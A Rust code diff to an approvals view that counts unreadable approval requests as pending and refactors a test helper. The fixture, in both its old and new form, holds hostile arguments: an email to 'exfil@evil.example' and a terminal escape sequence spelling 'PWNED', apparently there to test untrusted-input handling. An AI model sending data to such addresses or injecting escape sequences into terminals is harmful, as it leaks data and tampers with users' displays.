@@ -104,9 +104,10 @@ impl ApprovalsView {
         self.marked.len()
     }
 
-    /// Requests still waiting for a decision at `now`: expired ones are not pending.
+    /// Requests still waiting for a decision at `now`: expired ones are not pending; an
+    /// unreadable one, whose expiry is unknown, is counted.
     pub fn pending_at(&self, now: Timestamp) -> usize {
-        self.items.iter().filter(|a| a.status_at(now) == ApprovalStatus::Pending).count()
+        self.items.iter().filter(|a| a.unreadable.is_some() || a.status_at(now) == ApprovalStatus::Pending).count()
     }
 
     /// The pending requests of one session, next to expire first.
@@ -146,20 +147,13 @@ impl ApprovalsView {
 #[cfg(test)]
 pub(crate) fn pending_request(id: &str, session: &str, tool: &str, expires_in: i64, now: Timestamp) -> Approval {
     use crate::model::untrusted::UntrustedJson;
-    Approval {
-        id: id.into(),
-        session_id: session.into(),
-        step: 3,
-        tool: tool.into(),
-        arguments: UntrustedJson::new(serde_json::json!({"to": "exfil@evil.example", "body": "\u{1b}]0;PWNED\u{7}"})),
-        risk: crate::model::approval::Risk::High,
-        requested_at: now,
-        expires_at: now + chrono::Duration::seconds(expires_in),
-        required_approvers: 1,
-        decisions: Vec::new(),
-        status: ApprovalStatus::Pending,
-        unreadable: None,
-    }
+    let mut a = crate::model::approval::pending_for_test(id, tool, crate::model::approval::Risk::High);
+    a.session_id = session.into();
+    a.step = 3;
+    a.arguments = UntrustedJson::new(serde_json::json!({"to": "exfil@evil.example", "body": "\u{1b}]0;PWNED\u{7}"}));
+    a.requested_at = now;
+    a.expires_at = now + chrono::Duration::seconds(expires_in);
+    a
 }
 
 #[cfg(test)]
